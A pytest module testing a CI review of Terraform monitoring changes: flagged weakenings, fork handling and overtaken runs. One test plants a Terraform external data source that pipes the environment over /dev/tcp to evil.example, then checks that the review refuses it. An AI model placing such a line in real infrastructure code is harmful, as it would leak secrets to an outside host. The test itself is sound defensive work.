"""A review from end to end: the jobs' own scripts, real Terraform, and GitHub as a stand-in."""

from __future__ import annotations

import json
import re
import subprocess
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from modules.errors import ToolError
from ops.pulls.comments import MARKER
from ops.terraform import Terraform
from tests.builders import ROOT
from tests.pulls.folders import NAME, written
from tests.pulls.github_stand_in import HEAD, Hub, running
from tests.pulls.players import Player, checked_out, workflow
from tests.tools import without

Tree = dict[str, Any]

SLOW = "aws_cloudwatch_metric_alarm.high-latency"
BASE: Tree = {
    "routes": {"critical": {"pagerduty": True, "emails": ["first@team.example", "second@team.example"]}}
}
# What a pull request does: it raises a threshold, drops a subscriber and adds a function.
HEAD_CONFIG: Tree = {
    "routes": {"critical": {"pagerduty": True, "emails": ["first@team.example"]}},
    "alarms": {"high-latency": {"threshold": 8000}},
    "lambda": {"functions": {"reminder-actions": {"timeout_seconds": 60, "log_group": "dedicated"}}},
}


@dataclass(frozen=True)
class Side:
    """What one side of a pull request synthesizes, and what its configuration says."""

    files: dict[str, bytes]
    config: dict[str, bytes]


@pytest.fixture(scope="module")
def sides(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Side]:
    """Both sides, each synthesized by `main.py` once."""
    try:
        Terraform.found(ROOT)
    except ToolError as error:
        without(str(error))
    folder = tmp_path_factory.mktemp("sides")
    return {name: _synthesized(folder / name, prod) for name, prod in (("base", BASE), ("head", HEAD_CONFIG))}


def _synthesized(folder: Path, prod: Tree) -> Side:
    project = checked_out(folder)
    for name in ("dev", "staging"):
        (project / "config" / f"{name}.yaml").unlink()
    (project / "config" / "prod.yaml").write_text(yaml.safe_dump(prod))
    command = [str(ROOT / ".venv/bin/python"), "-O", "main.py"]
    subprocess.run(command, cwd=project, check=True, capture_output=True)
    return Side(_files(project / "cdktf.out"), _files(project / "config"))


def _files(folder: Path) -> dict[str, bytes]:
    return {str(path.relative_to(folder)): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


@pytest.fixture
def player(tmp_path: Path) -> Iterator[Player]:
    (tmp_path / "temp").mkdir()
    with running() as hub:
        yield Player(hub, checked_out(tmp_path / "project"), tmp_path / "temp")


def handed_on(player: Player, sides: dict[str, Side], **more: bytes) -> None:
    """What the pull request's own job hands on, with its own script for the number."""
    folder = player.temp / "runner"
    files = {f"synthesized/{name}/{path}": data for name in sides for path, data in sides[name].files.items()}
    written(folder, files | {f"synthesized/{path}": data for path, data in more.items()})
    player.context["runner"] = {"temp": str(folder)}
    steps = workflow("pull-request")["jobs"]["synth"]["steps"]
    said, upload = steps[-2:]
    assert player.run(said, player.context, folder / "output").returncode == 0
    assert player.use(upload, player.context)
    player.hub.configs = sides["head"].config


def comment(hub: Hub) -> str:
    (found,) = hub.comments
    text: str = found["body"]
    return text


def test_pull_request_of_a_fork_is_reviewed_without_an_identity(
    player: Player, sides: dict[str, Side]
) -> None:
    hub = player.hub
    hub.pull["head"]["repo"] = {"full_name": "stranger/monitoring"}
    handed_on(player, sides)

    subject = player.play("review", "subject")
    assert subject.result == "success", subject.said
    assert json.loads(subject.outputs["rest"]) == [NAME]
    live = player.play("review", "live")
    compared = player.play("review", "compare")
    plans = Path(player.context["runner"]["temp"])
    report = player.play("review", "report")

    assert [one.result for one in (live, compared, report)] == ["skipped", "failure", "failure"], (
        compared.said
    )
    (status,) = hub.statuses
    assert (status["sha"], status["state"]) == (HEAD, "failure"), compared.said
    text = comment(hub)
    assert text.startswith(MARKER)
    assert "## Stop: 2 changes weaken the monitoring" in text
    for wanted in (SLOW, "second@team.example", "reminder-actions"):
        assert wanted in text, text
    assert "placeholder.invalid" not in text

    _accept_what_is_weakened(player, plans, sides)
    report = player.play("review", "report")
    assert report.result == "success", report.said
    assert hub.statuses[-1]["state"] == "success"
    assert "## Fine: 2 weakenings, all accepted" in comment(hub)


def _accept_what_is_weakened(player: Player, job: Path, sides: dict[str, Side]) -> None:
    """The pull request accepts them, and its review is made anew from the plans that are there."""
    shown = re.search(r"```yaml\n(accepted:.+?)```", comment(player.hub), re.DOTALL)
    assert shown
    accepted = yaml.safe_load(shown[1])
    for entry in accepted["accepted"]:
        entry["reason"] = "measured for a month"
    prod = yaml.safe_dump(HEAD_CONFIG | accepted).encode()
    player.hub.configs = sides["head"].config | {"prod.yaml": prod}
    player.context["runner"] = {"temp": str(job)}
    steps = {step.get("name"): step for step in workflow("review")["jobs"]["compare"]["steps"]}
    for name in ("Take the configuration of the change", "Review"):
        ran = player.run(steps[name], player.context, job / "output")
        assert ran.returncode == 0, ran.stdout
    assert player.use(workflow("review")["jobs"]["compare"]["steps"][-1], player.context)


def test_attack_is_told_in_the_comment_and_terraform_never_sees_it(
    player: Player, sides: dict[str, Side]
) -> None:
    hub = player.hub
    evil = b'data "external" "x" { program = ["sh", "-c", "env > /dev/tcp/evil.example/80"] }'
    handed_on(player, sides, **{f"head/stacks/{NAME}/evil.tf": evil})

    subject = player.play("review", "subject")
    others = [player.play("review", name).result for name in ("live", "compare")]
    report = player.play("review", "report")

    assert (subject.result, *others, report.result) == ("success", "skipped", "skipped", "failure")
    assert hub.statuses[0]["state"] == "failure"
    assert "**Refused.**" in comment(hub)
    assert "evil.tf" in comment(hub)


def test_run_that_was_overtaken_says_nothing(player: Player, sides: dict[str, Side]) -> None:
    hub = player.hub
    hub.pull["head"]["sha"] = "c" * 40
    handed_on(player, sides)
    results = [player.play("review", name).result for name in ("subject", "live", "compare", "report")]
    assert results == ["success", "skipped", "skipped", "skipped"]
    assert (hub.comments, hub.statuses) == ([], [])
